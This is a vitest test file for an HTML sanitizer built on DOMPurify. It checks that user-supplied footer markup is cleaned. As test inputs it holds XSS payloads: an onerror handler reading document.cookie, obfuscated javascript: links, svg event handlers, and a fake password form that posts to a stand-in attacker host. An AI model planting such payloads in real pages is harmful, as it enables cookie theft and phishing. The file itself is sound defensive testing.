import DOMPurify from 'dompurify';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitizeHtml.ts';

function parse(html: string): HTMLElement {
  const holder = document.createElement('div');
  holder.innerHTML = html;
  return holder;
}

describe('sanitizeHtml against XSS payloads', () => {
  it('removes an img onerror handler but keeps the image', () => {
    const clean = sanitizeHtml('<img src="x" alt="Pool" onerror="alert(document.cookie)">');
    expect(clean).not.toMatch(/onerror|alert/i);
    expect(parse(clean).querySelector('img')?.getAttribute('alt')).toBe('Pool');
  });

  it('removes javascript: links in any spelling but keeps the link text', () => {
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      ' javascript:alert(1)',
      'java\tscript:alert(1)',
      '&#106;avascript:alert(1)',
    ]) {
      const clean = sanitizeHtml(`<a href="${href}">Opening times</a>`);
      expect(clean).not.toMatch(/javascript|alert/i);
      expect(parse(clean).textContent).toBe('Opening times');
    }
  });

  it('removes an svg onload handler', () => {
    const clean = sanitizeHtml(
      '<svg onload="alert(1)"><circle r="4"></circle></svg><svg><animate onbegin="alert(2)" attributeName="x"></animate></svg>',
    );
    expect(clean).not.toMatch(/onload|onbegin|alert/i);
  });

  it('removes a form with a password input (a fake login box) and every other control', () => {
    const clean = sanitizeHtml(
      '<form action="https://evil.example/steal"><label>Password <input type="password" name="p"></label>' +
        '<select><option>a</option></select><textarea></textarea><button formaction="https://evil.example">Log in</button></form>',
    );
    const html = parse(clean);
    expect(html.querySelector('form, input, select, option, textarea, button')).toBeNull();
    // Only the harmless words are left; nothing can take input or post it anywhere.
    expect(clean).not.toMatch(/evil\.example|type=|name=|action/i);
  });

  it('removes style tags and style attributes (an overlay over the real page)', () => {
    const clean = sanitizeHtml(
      '<style>body{display:none}</style><div style="position:fixed;inset:0;z-index:9999;background:white">Log in again</div>' +
        '<link rel="stylesheet" href="https://evil.example/x.css">',
    );
    const html = parse(clean);
    expect(html.querySelector('style, link, [style]')).toBeNull();
    expect(html.textContent).toBe('Log in again');
  });

  it('removes iframes, objects, embeds and scripts', () => {
    const clean = sanitizeHtml(
      '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><script>alert(1)</script><p>Footer</p>',
    );
    expect(clean).toBe('<p>Footer</p>');
  });

  it('keeps ordinary footer content', () => {
    const clean = sanitizeHtml(
      '<p>Call <a href="tel:01234567890">01234 567890</a> or <strong>visit</strong> <a href="https://example.com/gym">us</a></p>',
    );
    const html = parse(clean);
    expect(html.querySelectorAll('a')).toHaveLength(2);
    expect(html.querySelector('strong')?.textContent).toBe('visit');
  });
});

describe('links that open a new tab', () => {
  it('get rel="noopener noreferrer", keeping any rel already there', () => {
    const html = parse(
      sanitizeHtml(
        '<a href="https://example.com" target="_blank">Partner</a><a href="https://example.com/b" target="_blank" rel="nofollow">B</a>',
      ),
    );
    const [first, second] = [...html.querySelectorAll('a')];
    expect(first?.getAttribute('target')).toBe('_blank');
    expect(first?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(second?.getAttribute('rel')?.split(' ').sort()).toEqual(['nofollow', 'noopener', 'noreferrer']);
  });

  it('links without a target are left alone', () => {
    expect(parse(sanitizeHtml('<a href="/basket">Basket</a>')).querySelector('a')?.hasAttribute('rel')).toBe(false);
  });

  it('does not leak the hook or the forbidden lists into the shared DOMPurify instance', () => {
    sanitizeHtml('<a href="https://example.com" target="_blank">warm up our instance</a>');
    const shared = DOMPurify.sanitize('<a href="https://example.com" target="_blank">x</a><b style="color:red">y</b>', {
      ADD_ATTR: ['target'],
    });
    const html = parse(shared);
    expect(html.querySelector('a')?.hasAttribute('rel')).toBe(false);
    expect(html.querySelector('b')?.getAttribute('style')).toBe('color:red');
  });
});
